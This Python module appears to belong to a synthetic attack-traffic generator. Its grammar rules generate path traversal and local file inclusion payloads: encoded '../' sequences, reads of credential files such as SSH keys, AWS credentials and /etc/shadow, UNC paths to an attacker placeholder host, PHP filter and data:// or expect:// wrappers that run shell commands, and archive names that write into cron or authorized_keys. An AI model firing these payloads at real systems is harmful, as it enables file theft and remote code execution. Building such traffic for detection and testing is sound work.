"""Path traversal and local file inclusion: how to climb, and what to read at the top.

File names after the documentation of the systems that own them; forms after OWASP's page on path
traversal and the PHP manual's list of stream wrappers.
"""

from traffic.grammars.attacks.files import APP, LOGS, PROC, UNIX, WINDOWS
from traffic.grammars.attacks.pieces import Grammar, Symbols

# Tables: as many alternatives to a line as fit.
# fmt: off
_UPS = (
    *("../",) * 6,
    *("..\\",) * 3,
    *("..%2f", "..%2F", "%2e%2e/", "%2e%2e%2f", "..%5c", "%2e%2e%5c", "..%252f", "%252e%252e%252f"),
    *("....//", "...//", "..../", "..../\\", "....\\\\", "..//", ".././", "../\\", "..\\/", "..;/"),
    *("%c0%ae%c0%ae/", "..%c0%af", "..%c1%9c", "%c0%ae%c0%ae%c0%af", "..%u2215", "%uff0e%uff0e/"),
    *(
        "%%32%65%%32%65/", "..%00/", "..%0d/", "..%ef%bc%8f", "%e0%80%ae%e0%80%ae/", "..%255c",
        "．．/",
    ),
    *(
        "0x2e0x2e/", "..0x2f", "/%5c..", "/..", "\\..", "..|/", "..%09/", "／．．", "&#46;&#46;/",
        "\\x2e\\x2e/",
    ),
)

_SYMBOLS: Symbols = {
    "up": lambda rng: rng.choice(_UPS) * rng.choice((2, 2, 3, 3, 4, 5, 6, 7, 8, 10, 12, 15)),
    "up1": lambda rng: rng.choice(_UPS[:12]),
    "dots": lambda rng: "../" * rng.choice((2, 3, 4, 5, 6, 7, 8, 10, 14)),
    "unix": tuple(UNIX),
    "proc": tuple(PROC),
    "logs": tuple(LOGS),
    "win": tuple(WINDOWS),
    "app": tuple(APP),
    "any": ("‹unix›", "‹unix›", "‹unix›", "‹proc›", "‹logs›", "‹app›", "etc/passwd", "etc/passwd"),
    "secret": (
        "‹unix›", "etc/passwd", "etc/passwd", "‹win›", "‹proc›", "‹logs›", "windows/win.ini",
    ),
    "u": lambda rng: rng.choice(("root", "www-data", "ubuntu", "home/ubuntu", "home/git")),
    "end": (
        "", "", "", "", "%00", "%00.‹ext›", "\x00", "\x00.‹ext›", "?", "#", "%2500",
        "‹.¦/¦/.¦%20¦%0a›", ";.‹ext›",
    ),
    "ext": ("html", "php", "jpg", "png", "pdf", "txt", "xml", "htm", "js", "css"),
    "dir": (
        "‹word›/", "‹word›/‹word›/", "images/", "static/", "/‹word›/", "./", "/", "\\", "files/",
        "‹id›/",
    ),
    "doc": ("‹id›.‹ext›", "‹word›", "‹word›-‹n›.‹ext›", "‹n›"),
    "pad": lambda rng: rng.choice(("/.", "/./", "\\.", ".", "/")) * rng.randint(8, 120),
    "pad2": lambda rng: rng.choice(("./", "a/../", "/", "\\")) * rng.randint(5, 60),
    "drive": ("C:", "c:", "D:", "C:\\", "c:/"),
    "filter": (
        "convert.base64-encode", "string.rot13", "convert.iconv.utf-8.utf-16",
        "string.toupper|convert.base64-encode", "zlib.deflate/convert.base64-encode",
        "convert.iconv.UTF8.CSISO2022KR|convert.base64-encode",
    ),
    "page": (
        "index", "index.php", "config", "config.php", "‹id›.php", "../‹id›.php", "/etc/passwd",
        "‹app›", "login.php", "wp-config.php", "‹dots›etc/passwd", "‹id›",
    ),
}

_GRAMMAR = Grammar(_SYMBOLS)

RULES = _GRAMMAR.rules(
    unix_climb=("‹up›‹unix›‹end›", "‹up›‹any›‹end›", "/‹up›‹any›‹end›", "./‹dots›‹any›"),
    passwd=(
        "‹up›etc/passwd‹end›", "‹dir›‹up›etc/passwd‹end›", "‹up›etc‹/¦%2f¦\\¦//¦/./›passwd‹end›",
        "‹doc›/‹up›etc/passwd",
        '‹up›etc/‹pass*¦p?sswd¦passw[d]¦passwd-¦pa"s"swd¦./passwd¦default/../passwd›',
    ),
    after_name=(
        "‹dir›‹up›‹any›‹end›", "‹doc›/‹up›‹secret›‹end›", "‹dir›‹doc›/‹up›‹any›",
        "‹doc›‹?¦#¦%00¦;›/‹up›‹any›",
    ),
    bare_climb=(
        "‹up›", "‹up›‹doc›", "‹up›‹app›", "‹dir›‹up›‹doc›", "‹up›‹word›/‹word›.‹ext›",
        "..‹/¦\\›..‹/¦\\›‹app›", "..‹/¦\\¦%2f¦%5c›‹..¦%2e%2e¦...›‹/¦\\¦%2f¦%5c›‹doc›",
    ),
    windows_climb=(
        "‹up›‹win›‹end›", "‹up›windows/win.ini‹end›", "‹dir›‹up›‹win›‹end›", "..\\..\\..\\‹win›",
        "‹doc›\\‹up›‹win›",
    ),
    absolute_unix=(
        "/‹unix›‹end›", "/‹unix›", "/etc/passwd‹end›", "//etc/passwd‹end›", "/./‹unix›", "/‹proc›",
        "/‹logs›‹end›", "//‹unix›", "/‹word›/../‹unix›",
        "~/‹.ssh/id_rsa¦.bash_history¦.aws/credentials¦.netrc¦.ssh/authorized_keys›‹end›",
        "~‹u›/.ssh/id_rsa", "%2fetc%2f‹passwd¦shadow¦hosts¦group¦issue›‹end›",
        "\\etc\\‹passwd¦shadow›‹end›",
        "/home/‹name›/.‹ssh/id_rsa¦bash_history¦aws/credentials¦ssh/id_ed25519¦git-credentials¦"
        "mysql_history›",
    ),
    absolute_windows=(
        "‹drive›\\‹win›", "‹drive›/‹win›‹end›", "‹drive›\\\\‹win›", "\\\\?\\C:\\‹win›",
        "/‹drive›/‹win›",
        "C:\\Users\\‹name›\\‹.ssh\\id_rsa¦NTUSER.DAT¦.aws\\credentials¦Desktop\\passwords.txt›",
        "%SYSTEMROOT%\\‹win.ini¦system32\\drivers\\etc\\hosts¦repair\\sam›‹end›",
    ),
    unc=(
        "\\\\‹evil›\\‹abc›\\‹id›", "\\\\‹ip›\\‹c$¦admin$¦share¦ipc$›\\‹win›",
        "//‹ip›/‹c$¦share¦admin$›/‹id›.txt", "\\\\localhost\\c$\\‹win›", "\\\\‹evil›@80\\‹abc›",
        "file://\\\\‹ip›\\‹id›\\‹id›", "\\\\127.0.0.1\\c$\\‹win›",
    ),
    file_url=(
        "file:///‹unix›", "file:///‹any›", "file://localhost/‹unix›", "file:/‹unix›",
        "file:///c:/‹win›", "FILE:///‹unix›", "file:///‹dots›‹unix›", "netdoc:///‹unix›",
        "jar:file:///‹id›.jar!/‹app›", "local_file:///‹unix›", "url:file:///‹unix›",
        "file:///proc/self/‹environ¦cmdline¦fd/‹d›¦cwd/‹app››", "view-source:file:///‹unix›",
    ),
    php_filter=(
        "php://filter/‹convert.base64-encode¦read=‹filter››/resource=‹page›",
        "php://filter/‹filter›/resource=‹page›", "php://filter/read=‹filter›/resource=‹page›",
        "PhP://FiLtEr/‹filter›/resource=‹page›", "php:/filter/read=‹filter›/resource=‹page›",
        "php://filter/zlib.deflate/read=‹filter›/resource=‹page›%00",
        "php://filter/‹filter›|‹filter›|‹filter›/resource=php://temp",
        "php://filter/write=convert.base64-decode/resource=‹id›.php",
        "php%3a%2f%2ffilter%2fread=‹filter›%2fresource=‹page›",
    ),
    wrappers=(
        "data://text/plain;base64,‹b64›",
        "data://text/plain,<?php ‹system¦phpinfo¦passthru¦exec›(‹'id'¦'‹rnd›'›);?>",
        "data:text/plain,<?php echo ‹n›*‹n›;?>", "data:;base64,PD9waHAg‹b64›",
        "expect://‹id¦whoami¦ls¦cat+/etc/passwd¦uname -a›‹;¦ ›‹abc›",
        "php://input&cmd=‹id¦ls¦whoami›&‹rnd›",
        "php://‹stdin¦memory¦temp/maxmemory:‹n›¦fd/‹n››/‹rnd›",
        "zip://‹id›.‹jpg¦zip›%23‹id›‹.php¦›", "phar://‹dots?›‹id›.‹phar¦jpg¦zip¦gif›/‹id›‹.php¦›",
        "compress.zlib://‹dots?›‹id›/‹unix›", "compress.bzip2://‹unix›", "glob:///‹unix›*",
        "ogg://‹unix›", "ssh2.exec://‹id›:‹rnd›@‹ip›:22/‹id›", "rar://‹id›.rar%23‹id›.php",
        "zip:///tmp/‹rand›.zip#‹id›.php", "php://filter/string.strip_tags/resource=‹unix›",
    ),
    app_files=(
        "‹up›‹app›‹end›", "‹dir›‹up›‹app›",
        "/‹WEB-INF¦META-INF›/‹web.xml¦context.xml¦MANIFEST.MF¦applicationContext.xml¦"
        "database.properties¦classes/‹id›.‹class¦properties››‹end›",
        "‹up›WEB-INF/web.xml‹end›", "/var/www/‹html/¦›‹app›",
        "/‹srv¦opt¦app¦usr/share¦home/‹name››/‹id›/‹app›", "‹dots›‹app›", "/app/‹..¦src/..›/‹app›",
    ),
    proc_and_logs=(
        "‹up›‹proc›‹end›", "‹up›‹logs›‹end›",
        "/proc/‹n›/‹environ¦cmdline¦maps¦fd/‹d›¦root/etc/passwd¦cwd/‹app›¦status›",
        "/proc/self/‹fd/‹n›¦root/etc/passwd¦cwd/‹app›¦../../etc/passwd›",
        "‹dots›proc/self/‹environ¦fd/‹n›¦cmdline¦maps¦cwd/‹app››‹end›",
        "/dev/‹fd/‹n›¦shm/‹id›¦tcp/‹ip›/‹port›¦mem¦random›‹end›",
    ),
    server_paths=(
        "/‹cgi-bin¦icons¦assets¦static¦img¦‹word››/‹up›‹unix›", "/static../‹app›",
        "/‹word›../‹app›", "/‹word›..;/‹manager/html¦‹word›¦web-console/›",
        "/‹public¦..;¦api/v‹d››/‹up›‹unix›", "/‹word›/‹dots›‹unix›", "/plugins/‹word›/‹dots›‹unix›",
        "/‹cgi-bin¦scripts›/‹up›winnt/system32/cmd.exe?/c+dir+c:\\‹abc?›", "/..%2f‹up›‹unix›",
        "/‹word›/..%5c‹up›‹win›", "/%5C../%5C../%5C../‹unix›", "/@fs/‹unix›?‹raw??¦import&raw??¦›",
        "/_next/‹up›‹unix›", "/‹word›/.%2e/.%2e/.%2e/‹unix›", "/.%252e/.%252e/‹unix›",
        "/‹word›/;/‹dots›WEB-INF/web.xml", "/‹word›/%2e/‹WEB-INF/web.xml¦META-INF/MANIFEST.MF›",
    ),
    query_form=(
        "?‹file¦page¦path¦include¦doc¦template¦lang¦view¦‹word››=‹up›‹unix›‹end›",
        "/‹word›.php?‹file¦page¦f¦id¦dl›=‹up›‹any›‹end›", "‹doc›&‹file¦path›=‹up›‹any›",
        "/download?‹file¦name›=‹dots›‹secret›", "http://‹word›.com/‹word›?‹id›=‹dots›‹secret›",
        '{"‹id›":"‹dots›‹secret›"}', "/‹word›/download.php?‹id›=/‹unix›",
    ),
    archive_names=(
        "‹dots›‹id›.‹php¦jsp¦sh¦aspx¦py¦phtml›",
        "‹dots›‹var/www/html¦tmp¦etc/cron.d¦root/.ssh¦usr/local/bin›/‹id›",
        "..\\..\\‹inetpub\\wwwroot¦Windows\\Temp›\\‹id›.‹aspx¦exe¦asp›", "/etc/cron.d/‹id›",
        "‹dots›root/.ssh/authorized_keys‹.‹ext›¦›", "‹id›/‹dots›‹id›.php",
        "‹word›.‹ext›/‹dots›‹app›",
    ),
    long_padding=(
        "/etc/passwd‹pad›", "‹dots›etc/passwd‹pad›", "‹pad2›‹dots›‹unix›",
        "‹dots›windows/win.ini‹pad›",
    ),
)
